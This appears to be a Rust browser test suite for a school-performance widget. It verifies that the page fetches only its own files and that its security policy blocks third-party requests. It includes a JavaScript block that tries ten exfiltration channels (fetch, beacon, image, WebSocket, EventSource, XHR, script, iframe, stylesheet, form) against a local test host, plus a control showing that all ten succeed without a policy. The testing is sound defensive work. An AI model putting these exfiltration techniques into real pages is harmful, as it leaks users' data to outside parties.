//! What leaves the browser: nothing. Its own server sees only its files asked for, and nobody else sees anything, even
//! when a script in the page tries every way to send something.

use std::collections::BTreeSet;
use std::thread;
use std::time::{Duration, Instant};

use serde_json::json;
use xtask::tools::browsers::Engine;

use super::full_program::{open_measure, open_section};
use super::lookup;
use crate::problem::{Problem, Verdict, ensure};
use crate::third_party::ThirdPartyServer;
use crate::visit::{FOLDER, Visit, another_server};
use crate::widget::{KEY_STAGE_2, Widget};

pub(super) fn own_files_only(visit: &Visit) -> Verdict {
    visit.open()?;
    let widget = Widget::in_(visit.browser);
    widget.enter_65_of_182()?;
    widget.enter_key_stage_4()?;
    ensure_own_files_only(visit)
}

/// Nothing but files of the distribution, and nothing sent with the asking.
pub(super) fn ensure_own_files_only(visit: &Visit) -> Verdict {
    for request in visit.server.requests() {
        let name = request
            .path
            .strip_prefix(FOLDER)
            .map(|name| if name.is_empty() { "index.html" } else { name });
        let is_own = name.is_some_and(|name| visit.site.names().any(|own| own == name));
        ensure(is_own && request.method == "GET", || {
            format!("{} {} was asked for", request.method, request.path)
        })?;
        ensure(request.query.is_none(), || {
            format!("something was sent in {request:?}")
        })?;
    }
    ensure(!visit.server.requests().is_empty(), || {
        "nothing was asked for at all".to_owned()
    })
}

/// Every way in which a script can send something to a third party, except a navigation of the whole page: no policy
/// forbids it, and the person sees it.
const EXFILTRATION_ATTEMPTS: &str = "
    const host = arguments[0], figures = '?value=65&pupils=182';
    window.stopped = 0;
    document.addEventListener('securitypolicyviolation', () => (window.stopped += 1));
    const attempt = (way) => { try { way(); } catch {} };
    attempt(() => fetch(`http://${host}/fetch${figures}`, { mode: 'no-cors' }).catch(() => {}));
    attempt(() => navigator.sendBeacon(`http://${host}/beacon`, figures));
    attempt(() => (new Image().src = `http://${host}/image${figures}`));
    attempt(() => new WebSocket(`ws://${host}/socket${figures}`));
    attempt(() => new EventSource(`http://${host}/events${figures}`));
    attempt(() => {
        const request = new XMLHttpRequest();
        request.open('POST', `http://${host}/request`);
        request.send(figures);
    });
    const element = (name, set) => attempt(() => document.body.append(Object.assign(document.createElement(name), set)));
    element('script', { src: `http://${host}/script${figures}` });
    element('iframe', { src: `http://${host}/frame${figures}` });
    element('link', { rel: 'stylesheet', href: `http://${host}/style${figures}` });
    attempt(() => {
        const inner = document.createElement('iframe');
        inner.name = 'nowhere';
        const form = Object.assign(document.createElement('form'), { action: `http://${host}/form`, target: 'nowhere' });
        document.body.append(inner, form);
        form.submit();
    });
    return true;";
const ATTEMPTS: usize = 10;

pub(super) fn nothing_to_third_parties(visit: &Visit) -> Verdict {
    every_attempt_succeeds_without_a_policy(visit)?;

    visit.open()?;
    let widget = Widget::in_(visit.browser);
    widget.enter_65_of_182()?;
    let third_party = ThirdPartyServer::start()?;
    visit.browser.until(
        "the attempts to be made",
        EXFILTRATION_ATTEMPTS,
        &json!([third_party.host()]),
    )?;
    let stopped = "return window.stopped >= arguments[0]";
    visit
        .browser
        .until("each attempt to be stopped", stopped, &json!([ATTEMPTS - 1]))?;
    // Whatever was not stopped would have been sent before this comes back.
    let own = "
        window.back = false;
        fetch(location.href, { cache: 'no-store' }).then(() => (window.back = true));
        return true;";
    visit.browser.until("a request of its own", own, &json!([]))?;
    visit
        .browser
        .until("its own server to answer", "return window.back", &json!([]))?;
    let asked = third_party.request_lines();
    ensure(asked.is_empty(), || format!("a third party was asked: {asked:?}"))?;
    // Chromium connects for a frame and for a form in one before it looks at the policy, and then sends nothing.
    let idle = if visit.engine() == Engine::Chromium { 2 } else { 0 };
    let connections = third_party.connections();
    ensure(connections <= idle, || {
        format!("{connections} connections to a third party")
    })
}

/// Shows that the attempts can succeed: from a page without a policy they arrive.
fn every_attempt_succeeds_without_a_policy(visit: &Visit) -> Verdict {
    let open = another_server(&visit.site)?;
    open.add_page("/open.html", "<!doctype html><title>Open</title><body>");
    let third_party = ThirdPartyServer::start()?;
    visit.browser.open(&open.url("/open.html"))?;
    visit.browser.until(
        "the open page",
        "return document.title === 'Open' && document.body !== null",
        &json!([]),
    )?;
    visit.browser.until(
        "the attempts to be made",
        EXFILTRATION_ATTEMPTS,
        &json!([third_party.host()]),
    )?;
    let start = Instant::now();
    let expected = [
        "fetch", "beacon", "image", "socket", "events", "request", "script", "frame", "style", "form",
    ];
    let missing = || {
        let asked = third_party.request_lines();
        let arrived = |way: &str| asked.iter().any(|line| line.contains(&format!("/{way}")));
        expected
            .into_iter()
            .filter(|way| !arrived(way))
            .collect::<Vec<_>>()
    };
    while !missing().is_empty() {
        if start.elapsed() > Duration::from_secs(10) {
            let missing = missing();
            return Err(Problem::Failed(format!(
                "even from an open page these did not arrive: {missing:?}"
            )));
        }
        thread::sleep(Duration::from_millis(30));
    }
    Ok(())
}

/// Every view, entry, a trust by its name, its schools, an opened measure, files and printing, with this trust and figure.
fn walk(visit: &Visit, trust: &str, figure: &str) -> Result<BTreeSet<String>, Problem> {
    // A page and a server of its own, so that nothing is kept from the walk before.
    let own = Visit::new(visit.browser, &visit.site)?;
    own.open()?;
    let widget = Widget::in_(own.browser);
    own.browser.click(lookup::FIELD)?;
    own.browser.keys(trust)?;
    own.browser.click("[data-trust]")?;
    own.browser.until(
        "the trust",
        "return document.querySelector('.trust-line')?.textContent.includes('published') === true",
        &json!([]),
    )?;
    widget.set_figure(KEY_STAGE_2, figure)?;
    widget.until_finding(KEY_STAGE_2)?;
    open_measure(&own, KEY_STAGE_2)?;
    for tab in [
        "over-time",
        "your-schools",
        "what-it-would-take",
        "about-these-figures",
    ] {
        widget.open_tab(KEY_STAGE_2, tab)?;
    }
    for action in ["save", "show-text"] {
        widget.act(action)?;
    }
    for section in ["sector", "reflect", "share", "methods", "about", "your-trust"] {
        open_section(&own, section)?;
    }
    open_section(&own, "about")?;
    own.browser.until(
        "every file to be there",
        "return !document.querySelector('.pack-waiting') && document.querySelector('#about-licences') !== null",
        &json!([]),
    )?;
    ensure_own_files_only(&own)?;
    let asked = own.server.requests().into_iter();
    Ok(asked.map(|request| request.path).collect())
}

/// Which files are asked for says nothing about whose figures they are compared with.
pub(super) fn the_same_files_for_every_trust(visit: &Visit) -> Verdict {
    let one = walk(visit, "Outwood Grange Academies Trust", "61")?;
    let other = walk(visit, "Abbey Academies Trust", "74")?;
    ensure(one == other, || {
        let differing: Vec<_> = one.symmetric_difference(&other).collect();
        format!("only one of two trusts asked for {differing:?}")
    })?;
    println!(
        "measured {}: {} files asked for, the same for both trusts",
        visit.engine(),
        one.len()
    );
    Ok(())
}
